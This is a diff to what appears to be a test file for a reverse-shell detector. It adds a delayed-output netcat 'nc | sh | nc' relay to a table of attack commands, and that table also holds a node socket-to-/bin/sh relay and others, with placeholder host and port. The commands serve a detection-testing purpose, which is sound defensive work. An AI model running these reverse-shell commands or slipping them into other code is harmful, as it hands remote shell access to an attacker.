@@ -73,6 +73,10 @@ ATTACKS = {
     "nc | sh | nc relay (two pipes)": (
         "nc.traditional -q 1 {h} {p} </dev/null | sh 2>&1 | nc.traditional -q 1 {h} {p} >/dev/null",
         None),
+    # the input relay and the shell are gone before the output relay connects
+    "nc | sh | nc relay, output relay late": (
+        "nc.traditional -q 1 {h} {p} </dev/null | sh 2>&1 | "
+        "(sleep 3; nc.traditional -q 1 {h} {p} >/dev/null)", None),
     "node spawn(sh) piped to net.Socket": (
         "node -e 'const s=require(\"net\").connect({p},\"{h}\"),c=require(\"child_process\")"
         ".spawn(\"/bin/sh\");s.pipe(c.stdin);c.stdout.pipe(s);c.stderr.pipe(s);c.on(\"exit\","
@@ -126,6 +130,7 @@ BENIGN = {
 RELAYS = {
     "mkfifo relay (sh -i <f | nc >f)": "nc.traditional",
     "nc | sh | nc relay (two pipes)": "nc.traditional",
+    "nc | sh | nc relay, output relay late": "nc.traditional",
     "node spawn(sh) piped to net.Socket": "node",
     "openssl s_client FIFO relay (TLS)": "openssl",
     "python Popen(PIPE) relay after connect": "python3",
